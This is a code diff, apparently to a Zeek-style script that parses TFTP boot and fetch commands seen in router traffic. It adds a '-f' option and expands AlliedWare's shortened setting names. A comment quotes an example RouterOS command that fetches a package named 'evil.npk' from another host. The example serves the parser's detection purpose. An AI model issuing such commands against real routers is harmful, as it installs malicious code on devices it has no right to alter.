@@ -70,7 +70,7 @@ const host_colon_file = /^[0-9]{1,3}(\.[0-9]{1,3}){3}:.+/;
 const copy_option = /\/[a-zA-Z-]+/;
 # What stands before a file's name among options, and before what is neither file nor host.
 const file_option =
-    /-r|-l|--remote-file|--local-file|fi(le(name)?)?|image|source-file/;
+    /-r|-l|-f|--remote-file|--local-file|fi(le(name)?)?|image|source-file/;
 const other_option = /-b|-v|vr|from/;
 const load_address = /(0[xX])?[0-9a-fA-F]{6,16}|\$.+/;
 # Loaders keep what they boot in variables: ``BOOT=tftp://...``. Forms have the name with its sign as a word.
@@ -310,6 +310,14 @@ function take_options(line: BootLine, args: vector of string): bool
 	return T;
 	}
 
+# AlliedWare lets names of settings be shortened.
+function settings_name(name: string): string
+	{
+	if ( name == /se(r(v(er?)?)?)?/ )
+		return "server";
+	return name == /(dest|src)?fi(le?)?|(dest|src)f(ile)?/ ? "file" : name;
+	}
+
 # RouterOS: `/tool fetch address=10.0.0.66 src-path=evil.npk mode=tftp`, `url=tftp://10.0.0.66/evil.npk`.
 function take_settings(line: BootLine, args: vector of string): bool
 	{
@@ -318,7 +326,7 @@ function take_settings(line: BootLine, args: vector of string): bool
 		local parts = split_string1(word, /=/);
 		if ( |parts| < 2 || parts[1] == "" )
 			next;
-		switch ( to_lower(parts[0]) )
+		switch ( settings_name(to_lower(parts[0])) )
 			{
 			case "url", "upload-url":
 				set_source(line, parts[1]);
